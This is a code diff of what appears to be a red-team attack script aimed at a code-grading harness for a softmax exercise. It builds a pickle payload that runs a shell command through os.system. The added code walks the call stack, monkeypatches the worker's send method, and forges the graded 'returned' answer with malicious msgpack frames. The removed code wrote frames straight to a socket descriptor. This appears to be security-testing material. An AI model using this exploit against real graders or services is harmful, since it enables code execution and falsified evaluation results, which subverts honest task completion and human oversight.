@@ -1,31 +1,34 @@
 # Sends a pickle that runs a program where somebody loads it.
 # exercise: softmax
 # worth: 96 at most
+# says: softmax_jacobian broke the rules
 
 import os
-import stat
-import struct
+import pickle
+import sys
 
 import msgpack
 
 
-def channel():
-    """The socket that the frames go through."""
-    for fd in range(3, 64):
-        try:
-            if stat.S_ISSOCK(os.fstat(fd).st_mode):
-                return fd
-        except OSError:
-            pass
+def forge(change):
+    """Sends, in place of the worker's next answer, the frames that `change` makes of it."""
+    frame = sys._getframe()
+    while frame:
+        for kind in map(type, frame.f_locals.values()):
+            if hasattr(kind, "send") and hasattr(kind, "receive"):
+                return replace(kind, kind.send, change)
+        frame = frame.f_back
 
 
-def send(body):
-    data = struct.pack(">I", len(body)) + body
-    while data:
-        data = data[os.write(channel(), data) :]
+def replace(kind, real, change):
+    def send(self, body):
+        kind.send = real
+        frames = change(msgpack.unpackb(body, strict_map_key=False))
+        os.write(1, b"REACHED\n")
+        for each in frames:
+            real(self, each if isinstance(each, bytes) else msgpack.packb(each))
 
-
-import pickle
+    kind.send = send
 
 
 class Run:
@@ -33,12 +36,15 @@ class Run:
         return os.system, ("touch /tmp/redteam-loot-pickle",)
 
 
+def change(fields):
+    at = fields.index("returned") + 1
+    body = pickle.dumps(Run(), protocol=2)
+    answers = [msgpack.ExtType(0, body), msgpack.ExtType(127, body), msgpack.Timestamp(1, 2)]
+    return [*([*fields[:at], answer, *fields[at + 1 :]] for answer in answers), body]
+
+
 def attack():
-    body = pickle.dumps([3, "returned", Run(), []], protocol=2)
-    send(body)
-    send(msgpack.packb([3, "returned", msgpack.ExtType(0, body), []]))
-    send(msgpack.packb([3, "returned", msgpack.ExtType(-1, b"\xff" * 12), []]))
-    os._exit(0)
+    forge(change)
 
 
 import numpy as np
